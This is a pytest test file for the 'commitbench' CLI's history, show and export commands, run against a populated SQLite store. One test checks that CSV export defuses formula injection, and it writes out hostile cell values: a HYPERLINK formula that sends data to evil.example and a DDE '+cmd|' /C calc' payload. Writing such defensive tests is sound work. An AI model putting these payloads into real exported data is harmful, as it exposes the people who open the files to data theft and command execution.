"""`commitbench history`, `show` and `export` as a person and a notebook use them, on a real
database filled by `ingest`: in process (`cli_in_process`), and a real pipe in the slow tier."""

from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest

from benchmark.contracts.result import RunResult
from helpers import COMMITBENCH, cli_in_process
from results import T0, make_result

DECODE = "compiled_decode[compile_mode=default]"
HOUR = 3600.0


@pytest.fixture
def filled(cb, tmp_path):
    """Three commits of main (stored out of commit order) and a PR, in the default SQLite file."""
    results = []
    for uid, commit_id, hours, ttnt, branch in (("22222222-run", "c2c2c2c2", 2, 0.020, "main"),
                                                 ("11111111-run", "c1c1c1c1", 1, 0.010, "main"),
                                                 ("33333333-run", "c3c3c3c3", 3, 0.040, "main"),
                                                 ("99999999-run", "ffffffff", 9, 0.5, "pr-7")):
        r = make_result(uid)
        r.branch, r.commit_id, r.commit_time = branch, commit_id, T0 + hours * HOUR
        r.environment["transformers"] = f"4.{46 + hours}.0"
        m = r.scenarios[1].metrics[1]
        r.scenarios[1].metrics[1] = type(m).of(m.name, [ttnt, ttnt * 1.1, ttnt * 0.9])
        path = tmp_path / f"{uid}.json"
        path.write_text(r.to_json())
        results.append((r, path))
    ingest = cli_in_process(["ingest", *[p for _, p in results]], cb.env)
    assert ingest.returncode == 0, ingest.stderr
    return {r.run_uid: r for r, _ in results}


def test_history_of_runs(cb, filled):
    r = cli_in_process(["history", "--branch", "main"], cb.env)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert lines[0].split() == ["COMMIT", "COMMITTED", "(UTC)", "BRANCH", "STATE", "MODEL", "DEVICE", "TORCH",
                                "TRANSFORMERS", "RUN", "MESSAGE"]
    assert [line.split()[0] for line in lines[1:]] == ["c3c3c3c3", "c2c2c2c2", "c1c1c1c1"]  # commit order
    # the versions each run used (#19 item 16)
    assert [line.split()[7:9] for line in lines[1:]] == [["2.11.0", "4.49.0"], ["2.11.0", "4.48.0"], ["2.11.0", "4.47.0"]]
    assert all(" succeeded " in line for line in lines[1:])
    assert lines[1].split()[1:3] == ["2025-01-01", "03:00"]
    everything = cli_in_process(["history", "--limit", "0"], cb.env).stdout.splitlines()
    assert len(everything) == 5 and everything[1].startswith("ffffffff")


def test_history_of_a_figure(cb, filled):
    r = cli_in_process(["history", "--scenario", DECODE, "--metric", "time_to_next_token_mean_secs", "--branch", "main"],
                cb.env)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    key = make_result().series_key(make_result().scenarios[1])
    assert lines[0] == (f"time_to_next_token_mean_secs of {DECODE} (synthetic-llama-tiny on cpu; series {key})"
                        " - lower is better")
    rows = [line.split() for line in lines[2:]]
    assert [row[0] for row in rows] == ["c1c1c1c1", "c2c2c2c2", "c3c3c3c3"]  # oldest first
    assert [row[3] for row in rows] == ["10.000", "20.000", "40.000"]
    bars = [line.count("\u2588") for line in lines[2:]]
    assert bars == [6, 12, 24]  # from zero: 10, 20 and 40 ms, as long as they are
    same = cli_in_process(["history", "--series", key[:6], "--metric", "time_to_next_token_mean_secs", "--branch", "main"],
                   cb.env)
    assert same.stdout == r.stdout


def test_history_of_a_figure_marks_an_invalid_run(cb, filled, tmp_path):
    """As plain `history` marks an invalid run, so does a figure's: a marker column on its row."""
    r = make_result("44444444-run")
    r.branch, r.commit_id, r.commit_time = "main", "c4c4c4c4", T0 + 4 * HOUR
    r.valid, r.invalid_reasons = False, [{"rule": "cpu_load", "detail": "other processes used 1.9 of 2 cores",
                                          "scenario": DECODE, "phase": "decode"}]
    (tmp_path / "invalid.json").write_text(r.to_json())
    assert cli_in_process(["ingest", tmp_path / "invalid.json"], cb.env).returncode == 0
    out = cli_in_process(["history", "--scenario", DECODE, "--metric", "time_to_next_token_mean_secs",
                          "--branch", "main"], cb.env).stdout.splitlines()
    assert out[1].split()[-1] == "VALID"
    rows = {line.split()[0]: line.split() for line in out[2:6]}
    assert rows["c4c4c4c4"][-2:] == ["44444444", "INVALID"] and rows["c3c3c3c3"][-1] == "33333333"
    assert out[-1] == "INVALID runs are left out of compare and detect (`commitbench show RUN` says why)"
    plain = cli_in_process(["history", "--branch", "main"], cb.env).stdout
    assert "succeeded INVALID" in plain and plain.splitlines()[-1] == out[-1]


def test_series_list_and_ambiguous_names(cb, filled, tmp_path):
    r = cli_in_process(["history", "--series-list"], cb.env)
    assert r.returncode == 0 and len(r.stdout.splitlines()) == 4  # header + 3 series
    other = make_result("77777777-run")
    other.environment = other.environment | {"cpu_model": "Another CPU"}
    (tmp_path / "other.json").write_text(other.to_json())
    assert cli_in_process(["ingest", tmp_path / "other.json"], cb.env).returncode == 0
    r = cli_in_process(["history", "--scenario", DECODE, "--metric", "time_to_first_token_secs"], cb.env)
    assert r.returncode == 2 and "2 series match, give --series KEY" in r.stderr and len(r.stderr.splitlines()) == 1


@pytest.mark.parametrize("args, message", [
    (["history", "--metric", "nope", "--scenario", "x"], "unknown figure 'nope'"),
    (["history", "--metric", "time_to_first_token_secs"], "--metric needs one of --scenario NAME or --series KEY"),
    (["history", "--scenario", "x"], "--scenario and --series go with --metric"),
    (["history", "--limit", "-1"], "--limit must be 0 (all) or 1 to 1000000, got -1"),
    (["history", "--scenario", "nothing", "--metric", "time_to_first_token_secs"], "no scenario 'nothing' stored"),
    (["show", "zzzzzzzz"], "no run 'zzzzzzzz'"),
    (["show", "latest", "--branch", "nope"], "no runs stored for branch 'nope'"),
    (["export", "--format", "csv"], "give a RUN, or a series"),
    (["export", "latest", "--scenario", DECODE, "--format", "csv"], "give a RUN, or a series"),
    (["history", "--db", "sqlite://"], "in-memory SQLite database"),
    (["db", "close-stale", "--older-than", "inf"], "--older-than must be a number of seconds in (0, "),
    (["db", "close-stale", "--older-than", "0"], "--older-than must be a number of seconds in (0, "),
])
def test_read_commands_refuse_bad_input(cb, filled, args, message):
    r = cli_in_process(args, cb.env)
    assert r.returncode == 2, r.stdout + r.stderr
    assert r.stderr.startswith("commitbench: error: ") and message in r.stderr and r.stdout == ""
    assert len(r.stderr.splitlines()) == 1


def test_show(cb, filled):
    r = cli_in_process(["show", "3333"], cb.env)
    assert r.returncode == 0, r.stderr
    result = filled["33333333-run"]
    assert f"commitbench run {result.run_uid}: SUCCEEDED" in r.stdout
    assert "\n  torch 2.11.0, transformers 4.49.0, python -\n" in r.stdout  # #19 item 16; python not stored here
    for sc in result.scenarios:
        assert f"(series {result.series_key(sc)})" in r.stdout
    assert cli_in_process(["show", "latest", "--branch", "main"], cb.env).stdout == r.stdout


def test_export_a_run(cb, filled, tmp_path):
    r = cli_in_process(["export", "1111", "--format", "json"], cb.env)
    assert r.returncode == 0, r.stderr
    back = RunResult.from_dict(json.loads(r.stdout))
    original = filled["11111111-run"]
    assert back.run_uid == original.run_uid and back.commit_time == original.commit_time
    assert [m.samples for s in back.scenarios for m in s.metrics] == [m.samples for s in original.scenarios
                                                                       for m in s.metrics]
    out = tmp_path / "run.csv"
    r = cli_in_process(["export", "1111", "--format", "csv", "-o", out], cb.env)
    assert r.returncode == 0 and r.stdout == "", r.stderr
    rows = list(csv.DictReader(out.open()))
    assert len(rows) == sum(len(s.metrics) for s in original.scenarios)
    row = next(x for x in rows if x["metric"] == "time_to_next_token_mean_secs")
    assert row["commit_time"] == "2025-01-01T01:00:00+00:00" and row["direction"] == "lower"
    assert [float(v) for v in row["samples"].split()] == pytest.approx([0.010, 0.011, 0.009])
    assert float(row["median"]) == pytest.approx(0.010) and row["processes"] == "1"
    assert cli_in_process(["export", "1111", "--format", "csv", "-o", tmp_path], cb.env).returncode == 2  # a directory


def test_csv_export_writes_no_formula(cb, filled, tmp_path):
    """OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading
    quote, so a spreadsheet shows a branch named =HYPERLINK(...) instead of running it; our own
    numbers (the samples) stay numbers."""
    r = make_result("55555555-run")
    r.branch, r.commit_id, r.commit_time = '=HYPERLINK("http://evil.example/?"&A1,"click")', "c5c5c5c5", T0 + 5 * HOUR
    r.scenarios[0].name = "+cmd|' /C calc'!A0"
    r.scenarios[0].metrics[0].samples = [-0.5]  # a negative number is not a formula
    r.scenarios[0].metrics[1].processes = 3  # its 3 samples: one per worker process (run --processes 3)
    (tmp_path / "hostile.json").write_text(r.to_json())
    assert cli_in_process(["ingest", tmp_path / "hostile.json"], cb.env).returncode == 0
    out = cli_in_process(["export", "5555", "--format", "csv"], cb.env).stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {x["branch"] for x in rows} == {"'" + r.branch}
    assert rows[0]["scenario"] == "'+cmd|' /C calc'!A0" and rows[0]["samples"] == "-0.5"
    assert [x["processes"] for x in rows[:2]] == ["1", "3"]
    from benchmark.cli.export import cell

    assert [cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "main", "-1.5 2.0", 3)] == \
        ["'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "main", "-1.5 2.0", 3]


def test_export_a_series(cb, filled):
    r = cli_in_process(["export", "--scenario", DECODE, "--metric", "time_to_next_token_mean_secs", "--branch", "main",
                 "--format", "csv"], cb.env)
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert [x["commit_id"] for x in rows] == ["c1c1c1c1", "c2c2c2c2", "c3c3c3c3"]
    everything = cli_in_process(["export", "--scenario", DECODE, "--format", "json"], cb.env)
    data = json.loads(everything.stdout)
    assert data["scenario"] == DECODE
    assert {p["metric"] for p in data["points"]} == {"time_to_first_token_secs", "time_to_next_token_mean_secs"}
    assert len(data["points"]) == 2 * 4


@pytest.mark.parametrize("args", [["history"], ["show", "latest"], ["export", "latest", "--format", "json"],
                                  ["db", "current"], ["db", "close-stale"]])
def test_nothing_stored_yet(cb, args):
    r = cli_in_process(args, cb.env)
    assert r.returncode == 2 and "no results stored yet" in r.stderr and r.stdout == ""
    assert not cb.home.exists()  # reading never creates the database


def test_database_unreachable(cb):
    r = cli_in_process(["history", "--db", "postgresql+psycopg2://nobody@127.0.0.1:1/x"], cb.env)
    assert r.returncode == 3 and r.stderr.startswith("commitbench: error: database") and "\n" == r.stderr[-1]


@pytest.mark.slow
def test_output_cut_short_by_a_pipe(cb, filled):
    """`commitbench history | head -1`: no BrokenPipeError traceback."""
    r = subprocess.run(f"'{COMMITBENCH}' show latest | head -1", shell=True, env=cb.env, capture_output=True,
                       text=True, timeout=120)
    assert r.returncode == 0 and "Traceback" not in r.stderr and r.stderr == ""


def test_a_command_in_process_leaves_this_process_as_it_was(cb, tmp_path):
    """cli_in_process gives the command its own environment, directory and TMPDIR and takes
    them back: the next test sees this process as it was."""
    import logging
    import os
    import tempfile

    before = (dict(os.environ), os.getcwd(), tempfile.gettempdir(), logging.getLogger().handlers[:])
    url = f"sqlite:///{tmp_path / 'x.sqlite'}"
    r = cli_in_process(["db", "upgrade", "--db", url], cb.env | {"TMPDIR": str(cb.tmp)}, cwd=tmp_path)
    assert r.returncode == 0 and "(head)" in r.stdout, r.stderr
    assert (dict(os.environ), os.getcwd(), tempfile.gettempdir(), logging.getLogger().handlers[:]) == before


def test_python_dash_m_benchmark_cli_is_commitbench(cb, monkeypatch, capsys):
    """`python -m benchmark.cli ARGS` (what the workflows call) runs `commitbench ARGS`."""
    import runpy
    import sys

    monkeypatch.setenv("COMMITBENCH_HOME", str(cb.home))
    monkeypatch.setattr(sys, "argv", ["commitbench", "history", "--limit", "-1"])
    with pytest.raises(SystemExit) as done:
        runpy.run_module("benchmark.cli", run_name="__main__")
    assert done.value.code == 2 and "--limit must be 0 (all) or 1 to 1000000, got -1" in capsys.readouterr().err
    assert not cb.home.exists()
